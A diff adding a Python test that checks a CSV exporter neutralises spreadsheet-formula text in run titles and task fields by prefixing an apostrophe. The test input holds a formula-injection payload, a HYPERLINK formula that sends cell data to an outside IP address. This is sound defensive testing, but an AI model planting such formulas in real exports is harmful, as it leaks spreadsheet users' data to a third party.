@@ -3,6 +3,7 @@
 Expected values are read from the raw sample files here, not from the cook."""
 from __future__ import annotations
 
+import io
 import json
 import shutil
 from pathlib import Path
@@ -180,6 +181,22 @@ def test_csv_is_the_runs_table_with_its_scores(tmp_path):
     for row in rows:
         assert float(row["score: correct"]) == (1.0 if row["task"] in summary["details"]["correct"] else 0.0)
     assert export.csv_bytes(run for run, _ in runs) == (tmp_path / "runs.csv").read_bytes()
+
+
+def test_csv_text_a_spreadsheet_would_run_is_written_inert(tmp_path):
+    """A title from a trace that starts like a formula is written after a "'"; numbers are not."""
+    log = tmp_path / "log.jsonl"
+    asked = '=HYPERLINK("http://198.51.100.9/?"&A1,"open")'
+    log.write_text(json.dumps({"id": "r1", "timestamp": 1_700_000_000_000,
+                               "request": {"model": "gpt-4o", "messages": [{"role": "user", "content": asked}]},
+                               "response": {"choices": [{"message": {"role": "assistant", "content": "-1"}}],
+                                            "usage": {"prompt_tokens": 5, "completion_tokens": 2}}}) + "\n")
+    (run, _), = export.cooked_runs([log])[0]
+    import csv
+
+    (row,) = csv.DictReader(io.StringIO(export.csv_bytes([dict(run, title=asked, task="@SUM(A1)")]).decode()))
+    assert row["title"] == "'" + asked and row["task"] == "'@SUM(A1)"
+    assert row["tokens"] == "7" and row["format"] == "request-log"
 
 
 def test_json_is_a_cooked_document_of_the_chosen_runs_and_their_sub_agents(tmp_path):
